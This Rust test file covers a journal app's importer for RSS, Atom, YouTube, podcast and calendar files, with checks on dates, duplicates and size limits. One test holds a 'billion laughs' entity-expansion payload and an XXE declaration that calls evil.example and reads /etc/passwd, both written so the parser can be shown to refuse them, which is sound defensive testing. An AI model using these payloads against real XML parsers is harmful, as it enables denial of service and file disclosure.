//! Importing from feeds and calendars: realistic files (tests/fixtures/feeds) and hostile
//! ones, through the same functions the journal's data page calls.

use chrono::NaiveDate;
use mvp_pathway::domain::feeds::{
    entries_for, preview, read_file, FeedError, Source, Standing, MAX_FILE_BYTES, MAX_ITEMS,
};
use mvp_pathway::domain::journal::validation::check_entry;
use mvp_pathway::domain::journal::{ActivityType, Figure, Journal};

fn fixture(name: &str) -> String {
    std::fs::read_to_string(format!("tests/fixtures/feeds/{name}")).expect(name)
}

fn day(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap()
}

const TODAY: (i32, u32, u32) = (2026, 11, 30);

fn today() -> NaiveDate {
    day(TODAY.0, TODAY.1, TODAY.2)
}

#[test]
fn wordpress_rss_with_cdata_and_entities() {
    let file = read_file(&fixture("wordpress-rss.xml"), 0).unwrap();
    assert_eq!(file.source, Source::Rss);
    assert_eq!(file.items.len(), 3, "the item without a date is left out");
    assert_eq!(file.skipped, 1);
    assert!(!file.cut());
    let first = &file.items[0];
    assert_eq!(first.title, "Bicep modules: 5 tips – from a real migration");
    assert_eq!(first.date, day(2026, 11, 23));
    assert_eq!(
        first.url.as_deref(),
        Some("https://ana.example/2026/11/bicep-modules-tips/")
    );
    assert_eq!(first.kind, ActivityType::Blog);
    // CDATA HTML stripped to text; the script's content is gone; the description wins
    // over content:encoded.
    assert_eq!(
        first.description,
        "We moved 40 templates to Bicep modules & lived to tell the tale.\n\n\
         The post Bicep modules: 5 tips appeared first on Ana's Cloud Notes."
    );
    assert!(!first.description.contains("alert"));
    // A title that is plain text keeps its angle brackets.
    assert_eq!(
        file.items[1].title,
        "Minimal APIs & <T> generics in .NET 10"
    );
    assert_eq!(
        file.items[1].description,
        "Typed results, filters and generic handlers."
    );
    assert_eq!(file.items[1].date, day(2026, 9, 16));
}

#[test]
fn atom_with_html_and_xhtml_titles() {
    let file = read_file(&fixture("hashnode-atom.xml"), 0).unwrap();
    assert_eq!(file.source, Source::Atom);
    let first = &file.items[0];
    assert_eq!(
        first.title,
        "Power Automate: flujos que no fallan & cómo probarlos"
    );
    assert_eq!(first.date, day(2026, 11, 2), "published wins over updated");
    assert_eq!(
        first.url.as_deref(),
        Some("https://luis.example/flujos-que-no-fallan")
    );
    assert_eq!(first.description, "Tres patrones para reintentos.");
    let second = &file.items[1];
    assert_eq!(second.title, "Dataverse sin miedo");
    // The date as written (the author's day), not moved to UTC.
    assert_eq!(second.date, day(2026, 6, 20));
    assert_eq!(
        second.url.as_deref(),
        Some("https://luis.example/dataverse")
    );
    assert_eq!(second.description, "Tablas, relaciones y FetchXML.");
}

#[test]
fn youtube_feed_gives_videos_with_view_counts() {
    let file = read_file(&fixture("youtube.xml"), 0).unwrap();
    assert_eq!(file.source, Source::YouTube);
    let video = &file.items[0];
    assert_eq!(video.kind, ActivityType::Video);
    assert_eq!(video.views, Some(12_873));
    assert_eq!(video.date, day(2026, 10, 28));
    assert_eq!(
        video.url.as_deref(),
        Some("https://www.youtube.com/watch?v=AbCdEfGhIjk")
    );
    assert!(video
        .description
        .starts_with("Ten shortcuts I use every day.\nChapters:"));
    assert_eq!(file.items[1].title, "Live: .NET Aspire Q&A");
    let entries = entries_for(&Journal::default(), &file.items, &[true, true], 5);
    assert_eq!(entries[0].figures.get(Figure::OnDemandViews), Some(12_873));
    assert_eq!(entries[0].kind, ActivityType::Video);
}

#[test]
fn podcast_feed_gives_episodes() {
    let file = read_file(&fixture("podcast.xml"), 0).unwrap();
    assert_eq!(file.source, Source::Podcast);
    assert!(file.items.iter().all(|i| i.kind == ActivityType::Podcast));
    assert_eq!(
        file.items[0].url.as_deref(),
        Some("https://cafecondatos.example/42"),
        "a permalink guid is the link when there is no <link>"
    );
    assert_eq!(
        file.items[0].description,
        "Hablamos de Microsoft Fabric con Sofía."
    );
    assert_eq!(
        file.items[1].description,
        "Colores, contraste y lectores de pantalla."
    );
}

#[test]
fn calendar_with_folded_lines_time_zones_and_all_day_events() {
    // The user is at UTC+2.
    let file = read_file(&fixture("meetup.ics"), 120).unwrap();
    assert_eq!(file.source, Source::Calendar);
    let titles: Vec<&str> = file.items.iter().map(|i| i.title.as_str()).collect();
    assert_eq!(
        titles,
        [
            "Upcoming: Azure AI Foundry hands-on",
            "Talk: Observability with OpenTelemetry, .NET and Azure Monitor",
            "Online panel: women in tech",
            "Cloud Summit Madrid (speaker)",
        ],
        "newest first; the cancelled event is left out"
    );
    let talk = &file.items[1];
    assert_eq!(talk.kind, ActivityType::SpeakerThirdParty);
    assert_eq!(talk.date, day(2026, 11, 12));
    assert_eq!(talk.end_date, None);
    assert_eq!(
        talk.url.as_deref(),
        Some("https://www.meetup.com/madrid-dotnet/events/301234567/")
    );
    assert_eq!(
        talk.description,
        "Madrid .NET User Group\n\nAna shows traces, metrics and logs end to end; bring your laptop!\n\
         https://www.meetup.com/madrid-dotnet/events/301234567/"
    );
    // 23:30 UTC on 1 October is 2 October at UTC+2.
    assert_eq!(file.items[2].date, day(2026, 10, 2));
    // All-day: DTEND is the day after the last day.
    let summit = &file.items[3];
    assert_eq!(
        (summit.date, summit.end_date),
        (day(2026, 9, 24), Some(day(2026, 9, 25)))
    );
    // A TZID'd local time keeps its own day; an unsafe URL is dropped.
    assert_eq!(file.items[0].date, day(2027, 1, 15));
    assert_eq!(file.items[0].url, None);
}

#[test]
fn calendar_with_bare_line_feeds_reads_the_same() {
    let crlf = fixture("meetup.ics");
    let lf = crlf.replace("\r\n", "\n");
    assert_eq!(read_file(&lf, 120), read_file(&crlf, 120));
}

#[test]
fn preview_marks_duplicates_old_and_upcoming_items_and_a_second_import_adds_nothing() {
    let file = read_file(&fixture("meetup.ics"), 0).unwrap();
    let journal = Journal::default();
    let rows = preview(&journal, &file.items, today());
    let picked: Vec<bool> = rows.iter().map(|r| r.picked).collect();
    assert_eq!(
        picked,
        [false, true, true, true],
        "the upcoming event is unticked"
    );
    assert!(rows[0].future);
    assert!(rows.iter().all(|r| r.standing == Standing::New));

    let added = entries_for(&journal, &file.items, &picked, 1_000);
    assert_eq!(added.len(), 3);
    for e in &added {
        assert_eq!(check_entry(e), Ok(()), "{}", e.title);
    }
    let journal = Journal::from_entries(added);

    let again = preview(&journal, &file.items, today());
    assert_eq!(
        again
            .iter()
            .filter(|r| r.standing == Standing::Duplicate)
            .count(),
        3
    );
    assert!(
        again.iter().all(|r| !r.picked),
        "nothing is ticked the second time"
    );

    // Old items: the blog's March 2025 post is before the window ending 2026-11-30.
    let blog = read_file(&fixture("wordpress-rss.xml"), 0).unwrap();
    let rows = preview(&journal, &blog.items, today());
    assert_eq!(
        rows.iter().map(|r| r.old).collect::<Vec<_>>(),
        [false, false, true]
    );
    assert!(rows[2].picked, "old items are marked, not unticked");
}

#[test]
fn duplicates_by_url_or_by_title_and_date() {
    let file = read_file(&fixture("wordpress-rss.xml"), 0).unwrap();
    let mut first = entries_for(&Journal::default(), &file.items[..1], &[true], 1);
    // Same URL, different title: still the same post.
    first[0].title = "Renamed".into();
    let mut second = entries_for(&Journal::default(), &file.items[1..2], &[true], 2);
    // Same title and date, no URL.
    second[0].url = None;
    let journal = Journal::from_entries(first.into_iter().chain(second).collect());
    let rows = preview(&journal, &file.items, today());
    let standing: Vec<Standing> = rows.iter().map(|r| r.standing).collect();
    assert_eq!(
        standing,
        [Standing::Duplicate, Standing::Duplicate, Standing::New]
    );
    // The same item twice in one file counts once.
    let twice = [file.items[2].clone(), file.items[2].clone()];
    let rows = preview(&Journal::default(), &twice, today());
    assert_eq!(
        rows.iter().map(|r| r.standing).collect::<Vec<_>>(),
        [Standing::New, Standing::Duplicate]
    );
}

#[test]
fn entries_keep_the_portals_limits_and_apply_like_any_import() {
    let long_title = "T".repeat(150);
    let long_text = "word ".repeat(400);
    let rss = format!(
        "<rss><channel><item><title>{long_title}</title><description>{long_text}</description>\
         <pubDate>Sun, 01 Nov 2026 10:00:00 GMT</pubDate><link>ftp://x.example/a</link></item></channel></rss>"
    );
    let file = read_file(&rss, 0).unwrap();
    let entries = entries_for(&Journal::default(), &file.items, &[true], 7);
    let e = &entries[0];
    assert_eq!(check_entry(e), Ok(()));
    assert!(e.title.chars().count() <= 100 && e.title.ends_with('…'));
    assert!(e.description.chars().count() <= 1000 && e.description.ends_with('…'));
    assert_eq!(e.url, None, "only http and https links are kept");
    // The ids are new to the journal.
    let journal = Journal::from_entries(entries.clone());
    let more = entries_for(&journal, &file.items, &[true], 7);
    assert_ne!(more[0].id, e.id);
}

#[test]
fn entity_expansion_is_refused_and_unknown_entities_are_never_expanded() {
    let laughs = r#"<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rss><channel><item><title>&lol3;</title><pubDate>Sun, 01 Nov 2026 10:00:00 GMT</pubDate></item></channel></rss>"#;
    assert_eq!(read_file(laughs, 0), Err(FeedError::EntityDeclarations));
    let external = r#"<?xml version="1.0"?><!DOCTYPE rss SYSTEM "http://evil.example/x.dtd" [ <!entity xxe SYSTEM "file:///etc/passwd"> ]><rss/>"#;
    assert_eq!(read_file(external, 0), Err(FeedError::EntityDeclarations));
    // Without declarations, an undeclared reference stays as text.
    let plain = r#"<!DOCTYPE rss><rss><channel><item><title>Tom &xxe; Jerry</title><pubDate>Sun, 01 Nov 2026 10:00:00 GMT</pubDate></item></channel></rss>"#;
    let file = read_file(plain, 0).unwrap();
    assert_eq!(file.items[0].title, "Tom &xxe; Jerry");
}

#[test]
fn files_over_5_mb_are_refused() {
    let big = format!(
        "<rss><channel>{}</channel></rss>",
        "x".repeat(MAX_FILE_BYTES)
    );
    assert_eq!(read_file(&big, 0), Err(FeedError::TooLarge));
}

#[test]
fn thousands_of_items_give_the_newest_500() {
    let start = day(2020, 1, 1);
    let items: String = (0..3_000)
        .map(|n| {
            let d = start + chrono::Days::new(n);
            format!(
                "<entry><title>Post {n}</title><link href=\"https://b.example/{n}\"/><published>{d}T08:00:00Z</published></entry>"
            )
        })
        .collect();
    let atom = format!("<feed xmlns=\"http://www.w3.org/2005/Atom\">{items}</feed>");
    let file = read_file(&atom, 0).unwrap();
    assert_eq!(file.items.len(), MAX_ITEMS);
    assert_eq!(file.total, 3_000);
    assert!(file.cut());
    assert_eq!(file.items[0].title, "Post 2999");
    assert_eq!(file.items[499].title, "Post 2500");
}

#[test]
fn files_that_are_not_feeds_get_their_own_message() {
    for text in [
        "",
        "{\"app\":\"mvp-pathway\"}",
        "<html><body><p>Not a feed</p></body></html>",
        "<svg xmlns=\"http://www.w3.org/2000/svg\"/>",
        "BEGIN:VCARD\r\nFN:Ana\r\nEND:VCARD\r\n",
        "just text",
    ] {
        assert_eq!(read_file(text, 0), Err(FeedError::NotAFeed), "{text}");
    }
    assert_eq!(
        read_file("<rss><channel><item><title>x</title>", 0),
        Err(FeedError::Malformed)
    );
    assert_eq!(
        read_file("<rss><channel><item><title>x</item></channel></rss>", 0),
        Err(FeedError::Malformed)
    );
    assert_eq!(
        read_file("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:x\r\n", 0),
        Err(FeedError::Malformed)
    );
    assert_eq!(
        read_file("<rss><channel><title>Empty</title></channel></rss>", 0),
        Err(FeedError::Empty)
    );
    assert_eq!(
        read_file("BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", 0),
        Err(FeedError::Empty)
    );
}
